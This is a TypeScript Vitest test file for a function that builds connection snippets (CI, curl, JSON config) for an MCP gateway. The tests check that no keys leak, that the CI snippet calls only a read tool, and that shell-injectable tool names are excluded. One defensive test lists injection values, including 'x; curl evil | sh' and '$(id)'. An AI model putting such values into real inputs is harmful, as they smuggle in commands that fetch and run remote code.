import { describe, expect, it } from 'vitest'
import { connectSnippets } from './snippets'

const url = 'https://gateway.acme.test/crm/mcp'
const snippets = connectSnippets({ slug: 'crm', url, readTool: 'get_customer' })

describe('what people copy to connect a client', () => {
  it.each(snippets)('$client is given the gateway’s address and the key by reference', ({ code }) => {
    expect(code).toContain(url)
    expect(code).toMatch(/COUNTERSIGN_KEY|countersign-key/)
  })

  it.each(snippets.filter(({ where }) => where.endsWith('.json')))('$where is valid JSON', ({ code }) => {
    expect(() => JSON.parse(code)).not.toThrow()
  })

  it('never contains a key', () => {
    for (const { code } of snippets) expect(code).not.toMatch(/cs[kp]_/)
  })

  it('calls in CI only a tool that reads, and lists where there is none', () => {
    const ci = (readTool: string | null) =>
      connectSnippets({ slug: 'crm', url, readTool }).find(({ id }) => id === 'ci')!.code
    expect(ci('get_customer')).toContain('--method tools/call --tool-name get_customer')
    expect(ci(null)).toContain('--method tools/list')
  })

  it('leaves out a tool whose name a shell would run', () => {
    for (const readTool of ['x; curl evil | sh', '$(id)', '--help', 'a b']) {
      const snippet = connectSnippets({ slug: 'crm', url, readTool }).find(({ id }) => id === 'ci')!
      expect(snippet.code).not.toContain(readTool)
    }
  })

  it('asks curl’s question in a single line of valid JSON', () => {
    const body = /-d '(.+)'/.exec(snippets.find(({ id }) => id === 'curl')!.code)?.[1]
    expect(JSON.parse(body!)).toMatchObject({ method: 'initialize', params: { protocolVersion: '2025-11-25' } })
  })
})
